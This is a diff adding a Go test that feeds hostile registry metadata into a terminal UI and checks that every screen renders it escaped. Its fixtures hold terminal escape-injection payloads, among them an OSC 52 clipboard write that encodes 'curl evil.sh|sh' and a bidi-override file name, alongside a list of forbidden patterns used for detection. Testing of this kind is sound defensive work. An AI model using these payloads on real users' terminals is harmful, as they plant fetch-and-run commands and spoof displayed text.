@@ -1,0 +1,199 @@
+package ui
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"github.com/google/go-containerregistry/pkg/authn"
+	"github.com/google/go-containerregistry/pkg/name"
+	v1 "github.com/google/go-containerregistry/pkg/v1"
+	"github.com/google/go-containerregistry/pkg/v1/empty"
+	"github.com/google/go-containerregistry/pkg/v1/mutate"
+	"github.com/google/go-containerregistry/pkg/v1/random"
+	"github.com/google/go-containerregistry/pkg/v1/remote"
+	"github.com/google/go-containerregistry/pkg/v1/types"
+
+	"github.com/manifold-dev/manifold/internal/faultproxy"
+	"github.com/manifold-dev/manifold/internal/testregistry"
+	"github.com/manifold-dev/manifold/registry"
+)
+
+// Hostile text a registry could send: OSC 52 clipboard write, OSC 0 title,
+// a screen clear, BEL, a C1 CSI and a bidi override.
+const (
+	hOSC52   = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
+	hTitle   = "\x1b]0;owned\x1b\\"
+	hCSI     = "\x1b[2J\x1b[H"
+	hHostile = hOSC52 + hTitle + hCSI + "\a" + "\u009b31m" + "\u202egnp.exe"
+)
+
+// hostileEnv is a real registry (distribution, in-process) behind a fault
+// proxy, holding app:v1, an index whose annotations, entry annotations and
+// image configs (labels, author, history) carry hostile text. The proxy
+// answers the catalog and the tag list with hostile names, as a malicious
+// registry would (distribution itself refuses such names).
+type hostileEnv struct {
+	proxy  *faultproxy.Proxy
+	host   string
+	client *registry.Client
+}
+
+func newHostileEnv(t *testing.T) *hostileEnv {
+	t.Helper()
+	t.Setenv("DOCKER_CONFIG", t.TempDir())
+	p := faultproxy.New()
+	reg := testregistry.Start(t, testregistry.Options{Wrap: p.Wrap})
+	var adds []mutate.IndexAddendum
+	for _, arch := range []string{"amd64", "arm64"} {
+		img, err := random.Image(128, 1)
+		if err != nil {
+			t.Fatal(err)
+		}
+		img = mutate.MediaType(img, types.OCIManifestSchema1)
+		img = mutate.ConfigMediaType(img, types.OCIConfigJSON)
+		cf, err := img.ConfigFile()
+		if err != nil {
+			t.Fatal(err)
+		}
+		cf = cf.DeepCopy()
+		cf.OS, cf.Architecture = "linux", arch
+		cf.Author = "mallory" + hHostile
+		cf.Config.Labels = map[string]string{"evil" + hCSI: hHostile}
+		cf.Config.Env = []string{"PATH=/bin" + hOSC52}
+		cf.History = []v1.History{{CreatedBy: "RUN echo " + hHostile}}
+		if img, err = mutate.ConfigFile(img, cf); err != nil {
+			t.Fatal(err)
+		}
+		img = mutate.Annotations(img, map[string]string{"note": hHostile}).(v1.Image)
+		adds = append(adds, mutate.IndexAddendum{Add: img, Descriptor: v1.Descriptor{
+			Platform:    &v1.Platform{OS: "linux", Architecture: arch},
+			Annotations: map[string]string{"org.opencontainers.image.description": hHostile},
+		}})
+	}
+	idx := mutate.IndexMediaType(mutate.AppendManifests(empty.Index, adds...), types.OCIImageIndex)
+	idx = mutate.Annotations(idx, map[string]string{"org.opencontainers.image.title": hTitle + "title", "evil" + hOSC52: hHostile}).(v1.ImageIndex)
+	ref, _ := name.ParseReference(reg.Ref("app:v1"))
+	if err := remote.WriteIndex(ref, idx); err != nil {
+		t.Fatal(err)
+	}
+	c, err := registry.New(registry.Options{Keychain: authn.NewMultiKeychain()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &hostileEnv{proxy: p, host: reg.Host, client: c}
+}
+
+// assertScreenSafe fails when a rendered screen holds anything a registry
+// could have smuggled in: OSC sequences, BEL, C1 controls, bidi overrides,
+// the hostile screen clear, or any C0 control other than the ESC of
+// manifold's own SGR styling and newlines.
+func assertScreenSafe(t *testing.T, what, out string) {
+	t.Helper()
+	if !utf8.ValidString(out) {
+		t.Fatalf("%s: screen is not valid UTF-8", what)
+	}
+	for _, bad := range []string{"\x1b]", "\x1b[2J", "\x1b[H", "\a", "\u009b", "\u202e"} {
+		if strings.Contains(out, bad) {
+			t.Fatalf("%s: screen holds %q:\n%q", what, bad, out)
+		}
+	}
+	for i := 0; i < len(out); i++ {
+		c := out[i]
+		if c == '\n' {
+			continue
+		}
+		if c == 0x1b {
+			// manifold's own styling: CSI … m only.
+			j := i + 1
+			if j >= len(out) || out[j] != '[' {
+				t.Fatalf("%s: bare ESC at %d: %q", what, i, out[max(0, i-20):min(len(out), i+20)])
+			}
+			for j++; j < len(out) && (out[j] >= '0' && out[j] <= '9' || out[j] == ';' || out[j] == ':'); j++ {
+			}
+			if j >= len(out) || out[j] != 'm' {
+				t.Fatalf("%s: non-SGR escape at %d: %q", what, i, out[i:min(len(out), j+1)])
+			}
+			i = j
+			continue
+		}
+		if c < 0x20 || c == 0x7f {
+			t.Fatalf("%s: control byte %#x at %d", what, c, i)
+		}
+	}
+}
+
+func TestHostileEveryScreen(t *testing.T) {
+	env := newHostileEnv(t)
+	tags, _ := json.Marshal(map[string]any{"name": "app", "tags": []string{"v1", "x" + hOSC52, "y" + hCSI + "\a", "z\u202egnp"}})
+	repos, _ := json.Marshal(map[string]any{"repositories": []string{"app", "evil" + hTitle, "b\u009b2J"}})
+	env.proxy.Set(faultproxy.Fault{Kind: faultproxy.Replace, Match: faultproxy.Catalog, Body: repos, MediaType: "application/json"})
+
+	for _, colour := range []bool{false, true} {
+		hs := newHarness(t, env.client, env.host, 100, 40, func(o *Options) { o.NoColor = !colour })
+		screen := func(what string) string {
+			t.Helper()
+			out := hs.m.View().Content
+			assertScreenSafe(t, what, out)
+			return hs.screen()
+		}
+		s := screen("repositories")
+		if !strings.Contains(s, `evil\x1b]0;owned\x1b\`) {
+			t.Fatalf("hostile repository not shown escaped:\n%s", s)
+		}
+		hs.keys("?")
+		screen("help")
+		hs.keys("?")
+
+		env.proxy.Set(faultproxy.Fault{Kind: faultproxy.Replace, Match: faultproxy.Tags, Body: tags, MediaType: "application/json"})
+		hs.keys("/")
+		hs.typeText("app")
+		hs.keys("enter", "enter")
+		s = screen("tags")
+		if _, ok := hs.m.top().(*tagsPage); !ok {
+			t.Fatalf("tags page not open: %T\n%s", hs.m.top(), s)
+		}
+		if !strings.Contains(s, `x\x1b]52;c;`) {
+			t.Fatalf("hostile tag not shown escaped:\n%s", s)
+		}
+		env.proxy.Clear()
+		env.proxy.Set(faultproxy.Fault{Kind: faultproxy.Replace, Match: faultproxy.Catalog, Body: repos, MediaType: "application/json"})
+
+		hs.keys("g")
+		hs.typeText(env.host + "/app:v1")
+		hs.keys("enter")
+		s = screen("tree")
+		if _, ok := hs.m.top().(*treePage); !ok {
+			t.Fatalf("tree not open: %T\n%s", hs.m.top(), s)
+		}
+		hs.keys("e")
+		screen("tree expanded")
+		hs.keys("d")
+		screen("tree details")
+		for range 6 {
+			hs.keys("j")
+			screen("tree moved")
+		}
+		if s := screen("entry details"); !strings.Contains(s, "mallory") && !strings.Contains(s, `evil\x1b[2J`) && !strings.Contains(s, "gnp.exe") {
+			t.Logf("entry details show no config text (config fields not rendered?):\n%s", s)
+		}
+		hs.keys("v")
+		s = screen("raw")
+		if _, ok := hs.m.top().(*rawPage); !ok {
+			t.Fatalf("raw view not open: %T\n%s", hs.m.top(), s)
+		}
+		for range 3 {
+			hs.keys("pgdown")
+			screen("raw scrolled")
+		}
+		hs.keys("esc")
+		hs.keys("m")
+		s = screen("resolve matrix")
+		if _, ok := hs.m.top().(*resolvePage); !ok {
+			t.Fatalf("resolve matrix not open: %T\n%s", hs.m.top(), s)
+		}
+		hs.keys("esc")
+		screen("back")
+	}
+}
